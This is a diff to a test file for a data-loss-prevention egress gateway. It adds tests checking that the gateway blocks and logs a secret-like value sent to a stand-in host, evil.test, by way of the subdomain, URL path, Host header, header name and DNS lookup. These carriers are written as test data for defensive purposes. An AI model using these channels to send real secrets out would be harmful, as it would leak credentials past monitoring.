@@ -2,6 +2,7 @@ import { randomBytes } from 'node:crypto';
 import { writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { gzipSync } from 'node:zlib';
+import { setTimeout as sleep } from 'node:timers/promises';
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
 import type { Rule } from '../../src/gateway/config.ts';
 import { SECURE_PORTS } from './gateway/secureOrigins.ts';
@@ -13,6 +14,8 @@ const KEY = `sk-test-${randomBytes(18).toString('base64url')}`;
 const PLACEHOLDER = `sk-test-${randomBytes(18).toString('base64url')}`;
 const FILED = `pa55-${randomBytes(12).toString('hex')}`;
 const PORT = SECURE_PORTS.both;
+/** Longer than lines of the log wait for others. */
+const A_WHILE_MS = 200;
 
 let world: World;
 let gateway: TestGateway;
@@ -183,9 +186,40 @@ test('long bodies without secrets arrive whole (control)', async () => {
   }
 });
 
+describe('a refusal for something else', () => {
+  const carriers: Record<string, readonly string[]> = {
+    host: [`http://${FILED}.evil.test/`],
+    path: [`http://evil.test/a/${FILED}`],
+    reason: ['--header', `Host: ${FILED}.evil.test`, to('other.test')],
+    'header name': ['--header', `X-${FILED}: a`, to('other.test')],
+  };
+
+  /** Lines of refusals wait a moment for others. */
+  const placesFound = async (from: number): Promise<readonly string[]> => {
+    const since = (): typeof gateway.decisions => gateway.decisions.slice(from);
+    await expect.poll(() => since().length).toBeGreaterThan(0);
+    return since().flatMap(({ findings = [] }) => findings.map(({ where }) => where));
+  };
+
+  test.each(Object.entries(carriers))('names what it found in the %s', async (where, args) => {
+    await sleep(A_WHILE_MS);
+    const from = gateway.decisions.length;
+    const { status, requests } = await curl('--http1.1', ...args);
+    expect([Math.floor(status / 100), requests]).toEqual([4, []]);
+    expect(await placesFound(from)).toContain(where);
+  });
+
+  test('names what a name that is asked for holds', async () => {
+    await sleep(A_WHILE_MS);
+    const from = gateway.decisions.length;
+    expect(await resolved(`${FILED}.evil.test`)).toBe('ENOTFOUND');
+    expect(await placesFound(from)).toContain('host');
+  });
+});
+
 test('the log holds neither the key nor what is in the file', () => {
-  const text = JSON.stringify(gateway.log);
-  expect(text).not.toContain(KEY);
+  const text = JSON.stringify(gateway.log).toLowerCase();
+  expect(text).not.toContain(KEY.toLowerCase());
   expect(text).not.toContain(FILED);
   expect(text).toContain('gateway.dlp');
 });
